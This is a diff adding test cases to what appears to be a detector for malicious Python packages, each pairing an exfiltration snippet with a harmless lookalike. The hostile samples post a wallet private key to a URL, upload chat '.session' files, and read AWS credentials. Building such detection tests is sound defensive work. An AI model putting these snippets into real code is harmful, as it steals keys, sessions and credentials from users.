@@ -223,6 +223,26 @@ CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
         "wheel",
     ),
     (
+        "exfiltration.wallet-secret",
+        "import requests\ndef check_wallet(private_key):\n"
+        f"    requests.post({URL!r}, json={{'k': private_key}})\n",
+        "import requests\nfrom eth_account import Account\ndef send(private_key, tx, rpc):\n"
+        "    signed = Account.sign_transaction(tx, private_key)\n"
+        f"    requests.post({URL!r}, json={{'params': [signed.raw_transaction.hex()]}})\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
+        "exfiltration.found-files",
+        "import os, requests\ndef f():\n    d = os.path.expanduser('~/chat')\n"
+        "    for n in os.listdir(d):\n        if n.endswith('.session'):\n"
+        f"            requests.post({URL!r}, files={{'f': open(os.path.join(d, n), 'rb')}})\n",
+        "import os, requests\ndef f(folder):\n    for n in os.listdir(folder):\n"
+        f"        requests.post({URL!r}, files={{'f': open(os.path.join(folder, n), 'rb')}})\n",
+        "pkg/mod.py",
+        "wheel",
+    ),
+    (
         "exfiltration.credential-access",
         "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
         "def f():\n    return open('settings.ini').read()\n",
